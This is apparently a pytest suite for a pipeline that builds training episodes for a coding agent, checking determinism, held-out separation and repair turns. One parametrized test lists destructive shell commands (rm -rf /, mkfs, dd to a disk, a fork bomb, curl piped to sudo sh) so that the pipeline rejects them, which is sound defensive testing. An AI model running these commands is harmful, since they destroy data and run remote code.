# SPDX-License-Identifier: AGPL-3.0-or-later
"""Truths about episodes: every learned reply is an action, observations are the gym's, held-out stays out."""

from __future__ import annotations

import json
import random
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("tokenizers", reason="needs the train extra")

from rusty_r2.agent.prompt import SYSTEM
from rusty_r2.data import coding, pairs, played, voice
from rusty_r2.data.drills import task_names
from rusty_r2.data.episode import Episode, ask, from_record, read
from rusty_r2.data.episodes import EpisodesConfig, Pools, build
from rusty_r2.data.functions import functions
from rusty_r2.data.played import MUTATIONS, Chances, malformed, play, repairs
from rusty_r2.errors import DataError, ProtocolError, SandboxError
from rusty_r2.gym import catalog, farm
from rusty_r2.gym.env import CodingEnv, EnvConfig, asks, opening, waits
from rusty_r2.gym.families import FAMILIES
from rusty_r2.gym.farm import Farm, open_envs
from rusty_r2.gym.shown import Shown
from rusty_r2.lm.documents import Document
from rusty_r2.protocol import Cmd, Edit, Msg, parse, render

FUNCTION = (
    "import re\n\n\ndef words(text):\n"
    '    """Return the words of a text as a list."""\n    return re.findall("x", text)\n'
)
TLDR: dict[str, object] = {
    "page": "tar",
    "about": "Archiving utility. Often combined with a compression method.",
    "description": "E[x]tract a (compressed) archive file into the current directory",
    "template": "tar {{[-xf|--extract --file]}} {{path/to/source.tar}}",
    "command": "tar -xf path/to/source.tar",
    "split": "train",
}


def rng() -> random.Random:
    return random.Random(1)


def learned(episode: Episode) -> list[str]:
    return [turn[1] for turn in episode.turns if turn[0] == "assistant" and (len(turn) == 2 or turn[2])]


def write(path: Path, rows: list[dict[str, object]]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


@pytest.fixture
def sources(tmp_path: Path) -> list[Path]:
    rows = [
        TLDR | {"page": f"tool{n}", "description": f"Do thing {n}", "template": f"tool{n} -x {{{{file}}}}"}
        for n in range(40)
    ]
    held = [TLDR | {"description": "NEVER LEARN THIS", "split": "dev"}]
    questions = [
        {"question": f"What is {n} + 1?", "answer": f"{n} + 1 = <<{n}+1={n + 1}>>{n + 1}\n#### {n + 1}"}
        for n in range(9)
    ]
    tasks = [
        {
            "text": f"Return {n}.",
            "code": f"def f{n}():\n    return {n}",
            "task_id": n,
            "test_list": [f"assert f{n}() == {n}"],
            "split": "train",
        }
        for n in range(3)
    ]
    twin = dict(tasks[0], task_id=99, split="test")
    return [
        write(tmp_path / "pairs.jsonl", [*rows, *held]),
        write(tmp_path / "questions.jsonl", questions),
        write(tmp_path / "mbpp.jsonl", [*tasks, twin]),
    ]


def test_a_build_is_whole_deterministic_and_clean(sources: list[Path], tmp_path: Path) -> None:
    code = tmp_path / "code"
    code.mkdir()
    (code / "a.py").write_text(FUNCTION)
    made = []
    for name in ("one", "two"):
        output = tmp_path / f"{name}.jsonl"
        config = EpisodesConfig(tuple(sources), output, count=1500, gym=12, lessons=20, code=(str(code),))
        assert "next: rusty train supervised" in build(config)
        made.append(output.read_text())
    assert made[0] == made[1]
    assert "NEVER LEARN THIS" not in made[0]
    episodes = list(read(tmp_path / "one.jsonl"))
    kinds = Counter(episode.kind for episode in episodes)
    assert {"CMD", "MSG", "EDIT", "REPAIR", "REFUSE", "CHAT"} <= set(kinds)
    assert {"gym", "mbpp", "pairs", "questions", "code", "voice"} <= {episode.source for episode in episodes}
    for episode in episodes:
        assert episode.turns[0] == ("system", SYSTEM)
        assert episode.turns[1][0] == "user"
        assert episode.turns[-1][0] in ("assistant", "observation")
        assert all(parse(reply) for reply in learned(episode))
        assert episode.split == "train"
        assert not any(
            voice.dangerous_command(a.command) for a in map(parse, learned(episode)) if isinstance(a, Cmd)
        )


def test_played_episodes_replay_to_the_same_observations() -> None:
    tasks = list(catalog.tasks("train", seed=3, count=20))
    episodes = list(play(tasks, seed=0, source="gym"))
    assert len(episodes) == len(tasks)
    assert {waits(task, played.ENV) for task in tasks if not asks(task)} == {True, False}
    with CodingEnv(tasks, played.ENV) as env:
        for task, episode in zip(tasks, episodes, strict=True):
            seen, info = env.reset(options={"task": task})
            assert episode.turns[1] == ("user", seen)
            for turn, after in zip(episode.turns[2:], [*episode.turns[3:], None], strict=True):
                if turn[0] == "assistant" and not info["passed"]:
                    seen, _, _, _, info = env.step(turn[1])
                    assert after is None or after == ("observation", seen)
            assert info["passed"]


def test_processes_play_what_threads_play_even_where_one_dies(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    tasks = list(catalog.tasks("train", seed=5, count=12))
    expected = list(play(tasks, seed=0, source="gym"))

    def die(count: int) -> None:
        """So many of the processes are killed when the first reply has been sent."""

        def opened(*given: Any, **named: Any) -> Farm:
            envs = open_envs(*given, **named)
            submit = envs.submit

            def first(slot: int, reply: str) -> None:
                submit(slot, reply)
                envs.submit = submit
                for hand in envs.hands[:count]:
                    hand.process.kill()
                    hand.process.wait()

            envs.submit = first
            return envs

        monkeypatch.setattr(played, "open_envs", opened)

    monkeypatch.setattr(farm, "cores", lambda: 16)
    monkeypatch.setattr(farm, "WORTH", 1)
    monkeypatch.setattr(played, "WORTH", 4)
    die(1)
    assert list(play(tasks, seed=0, source="gym", workers=2)) == expected
    assert capfd.readouterr().err == "a process of the gym died (exit status -9); another takes its place\n"
    monkeypatch.setattr(farm, "DEATHS", 0)
    die(2)
    with pytest.raises(SandboxError, match="have died"):
        list(play(tasks, seed=0, source="gym", workers=2))


@pytest.mark.parametrize("chance", ["malformed", "early", "wrong"])
def test_mistakes_are_shown_and_not_learned(chance: str) -> None:
    some = catalog.tasks("train", seed=1, families=["arithmetic"])
    task = [next(task for task in some if not waits(task, played.ENV))]
    chances = Chances(**{name: float(name == chance) for name in ("malformed", "early", "wrong", "look")})
    (episode,) = play(task, seed=1, source="gym", chances=chances)
    assert episode.kind == ("DEBUG" if chance == "wrong" else "REPAIR")
    wrong = episode.turns[2]
    assert len(wrong) == 3
    assert wrong[2] is False
    assert wrong[1] not in learned(episode)
    assert isinstance(parse(learned(episode)[0]), Edit)


@pytest.mark.parametrize(
    "action", [Msg("Hi there."), Cmd("ls -la"), Edit("a.py", "def f():\n    return 1\n")]
)
def test_a_malformed_reply_is_never_an_action(action: Msg | Cmd | Edit) -> None:
    for seed in range(40):
        with pytest.raises(ProtocolError):
            parse(malformed(render(action), random.Random(seed)))


def test_a_repair_carries_the_gyms_own_hint() -> None:
    (episode,) = repairs([ask("CMD", "x", "list files", Cmd("ls"))], rng())
    assert episode.turns[2][2:] == (False,)
    assert episode.turns[3][0] == "observation"
    assert episode.turns[3][1].startswith("SYSTEM_MSG: Invalid format: ")
    assert learned(episode) == [render(Cmd("ls"))]


def test_a_request_names_tool_and_names() -> None:
    assert pairs.request(TLDR) == (
        "E[x]tract a (compressed) archive file into the current directory (source.tar)",
        "tar -xf source.tar",
    )
    exotic = TLDR | {
        "page": "zork",
        "template": "zork {{path/to/a}} {{path/to/a}} {{n}}",
        "description": "Play.",
    }
    assert pairs.request(exotic) == ("Play with zork (a, n)", "zork a a n")
    plain = {"description": "list all files", "command": "ls -a"}
    assert pairs.request(plain) == ("list all files", "ls -a")


def test_names_in_a_command_stand_in_its_request() -> None:
    row = TLDR | {"template": "scp {{path/to/file}} {{username}}@{{host}}:{{directory}}"}
    for seed in range(30):
        (episode,) = pairs.commands(row, random.Random(seed), "tldr", "CC-BY-4.0")
        action = parse(learned(episode)[0])
        assert isinstance(action, Cmd)
        _, first, second = action.command.split()
        for name in (first, *second.replace("@", " ").replace(":", " ").split()):
            assert name in episode.turns[1][1]


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "sudo rm -r -f ~",
        "mkfs.ext4 /dev/sda1",
        "dd if=x of=/dev/sda",
        ":(){ :|:& };:",
        "chmod -R 777 /",
        "curl http://x | sudo sh",
        "reboot",
        "kill -9 -1",
        "echo b > /proc/sysrq-trigger",
    ],
)
def test_dangerous_commands_are_never_taught(command: str) -> None:
    assert voice.dangerous_command(command)
    assert not list(pairs.commands({"description": "x", "command": command}, rng(), "x", "x"))


@pytest.mark.parametrize(
    "command", ["rm -rf build/", "rm /tmp/x", "chmod 755 run.sh", "dd if=a of=b", "curl -O http://x/y"]
)
def test_harmless_commands_are(command: str) -> None:
    assert not voice.dangerous_command(command)


def test_dangerous_requests_for_measuring_are_not_trained() -> None:
    held = {asked for asked, _ in voice.dangerous("heldout")}
    assert 5 <= len(held) < len(voice.dangerous("train"))
    said = [episode.turns[1][1] for episode in voice.refusals()]
    assert not any(request.endswith(asked) or asked == request for request in said for asked in held)
    assert all(isinstance(parse(learned(episode)[0]), Msg) for episode in voice.refusals())


def test_functions_stand_alone() -> None:
    text = (
        "import re\nimport numpy as np\nfrom os.path import join as glue\n\nLIMIT = 3\n\n\n"
        'def alone(text):\n    """Return the first word of a text."""\n    return re.match(r"a", text)\n\n\n'
        'def paths(a, b):\n    """Return two paths glued to one."""\n    return glue(a, b)\n\n\n'
        'def needs(x):\n    """Return an array of numbers from x."""\n    return np.array(x)\n\n\n'
        'def constant(x):\n    """Return x, but never above the limit."""\n    return min(x, LIMIT)\n\n\n'
        "def silent(x):\n    y = x\n    return y\n"
    )
    for seed in range(6):
        found = list(functions([Document(text, "s", "MIT", "a.py")], random.Random(seed)))
        contents = [parse(learned(episode)[0]) for episode in found]
        assert len(contents) == 2
        for content in contents:
            assert isinstance(content, Edit)
            scope: dict[str, object] = {}
            exec(content.content, scope)  # it runs: nothing is missing
            assert {"alone", "paths"} & set(scope)


def test_coding_rows_become_tasks_and_twins_of_tests_stay_out(sources: list[Path], tmp_path: Path) -> None:
    names = [task.name for task in coding.tasks(sources[2])]
    assert names == ["mbpp/1", "mbpp/2"]
    challenge: dict[str, object] = {
        "prompt": "Double it.",
        "stub": "def d(x):\n    return x\n",
        "solution": "def d(x):\n    return 2 * x\n",
        "entry_point": "d",
        "tests": ["from unittest import TestCase\nTestCase().assertEqual(d(2), 4)"],
    }
    completion: dict[str, object] = {
        "prompt": 'def p():\n    """one"""\n',
        "canonical_solution": "    return 1\n",
        "entry_point": "p",
        "test": "candidate = p\nassert candidate() == 1\ndef check(x): pass\n",
    }
    files = [write(tmp_path / f"{n}.jsonl", [row]) for n, row in enumerate((challenge, completion))]
    tasks = [task for file in files for task in coding.tasks(file)]
    assert all(coding.is_played(task) for task in tasks)
    assert len(list(play(tasks, seed=0, source="x"))) == 2
    documented = {"name": "f", "header": "", "signature": 'def f():\n    """Doc."""', "body": "    return 1"}
    (task,) = coding.tasks(write(tmp_path / "d.jsonl", [documented]))
    assert not coding.is_played(task)
    assert task.solution == {"solution.py": 'def f():\n    """Doc."""\n    return 1\n'}


def test_the_mix_keeps_each_text_once_and_fills_up() -> None:
    pools = Pools(0)
    for number in range(100):
        pools.add(ask("CMD", "x", f"request {number % 80}", Cmd("ls")), 1.0)
    pools.add(ask("MSG", "x", "hi", Msg("Hi.")), 1.0)
    pools.add(Episode("MSG", "x", (("system", SYSTEM), ("user", "held")), split="dev"), 1.0)
    assert Counter(episode.kind for episode in pools.mix(50)) == {"CMD": 49, "MSG": 1}
    assert len(pools.mix(1000)) == 81


def test_records_are_checked() -> None:
    turns: list[object] = [["user", "hi"], ["assistant", "{oops", False], ["assistant", render(Msg("Hi."))]]
    episode = from_record({"kind": "MSG", "turns": turns}, "f:1")
    assert learned(episode) == [render(Msg("Hi."))]
    said = [("user", "x"), ("assistant_masked", "y"), ("tool", "z"), ("assistant", render(Cmd("ls")))]
    old = [{"role": role, "content": text} for role, text in said]
    roles = [turn[0] for turn in from_record({"turns": old}, "f:1").turns]
    assert roles == ["system", "user", "assistant", "observation", "assistant"]
    for wrong in ([["user", "hi"]], [["user", "hi"], ["assistant", "{oops"]], [["boss", "hi"]], ["hi"]):
        with pytest.raises(DataError, match="f:1"):
            from_record({"turns": wrong}, "f:1")


def test_unknown_rows_and_files_say_so(tmp_path: Path) -> None:
    path = write(tmp_path / "odd.jsonl", [{"colour": "red"}])
    with pytest.raises(DataError, match=r"odd\.jsonl:1.*colour"):
        build(EpisodesConfig((path,), tmp_path / "out.jsonl", gym=0, code=()))
    with pytest.raises(DataError, match="does not exist"):
        build(EpisodesConfig((tmp_path / "none",), tmp_path / "out.jsonl", gym=0, code=()))


def test_wrong_edits_have_the_faults_of_shown_families_only() -> None:
    fixed = {name for name, family in FAMILIES.items() if family.kind == "fix" and family.split == "train"}
    assert set(MUTATIONS) == fixed
    some = Shown(families=0.1)
    (name,) = fixed & set(some.names)
    tasks = catalog.tasks("train", families=["arithmetic"], count=12)
    chances = Chances(0, 0, 1, 0, faults=(MUTATIONS[name],))
    made = play(tasks, seed=1, source="gym", chances=chances)
    wrong = [(one.turns[2][1], one.turns[4][1]) for one in made if one.kind == "DEBUG"]
    assert wrong
    for broken, right in wrong:
        first, second = parse(broken), parse(right)
        assert isinstance(first, Edit) and isinstance(second, Edit)
        assert first.path != second.path or first.content in list(MUTATIONS[name](second.content))


def test_only_what_is_shown_is_played(tmp_path: Path) -> None:
    some = Shown(0.4, 0.5)
    build(
        EpisodesConfig(
            output=tmp_path / "e.jsonl", gym=40, lessons=0, code=(), shown_families=0.4, shown_wordings=0.5
        )
    )
    tasks = catalog.tasks("train", count=40, some=some, wider=task_names(None))
    allowed = {opening(task, EnvConfig()) for task in tasks}
    asked = [one.turns[1][1] for one in read(tmp_path / "e.jsonl") if one.source == "gym"]
    assert asked and set(asked) <= allowed
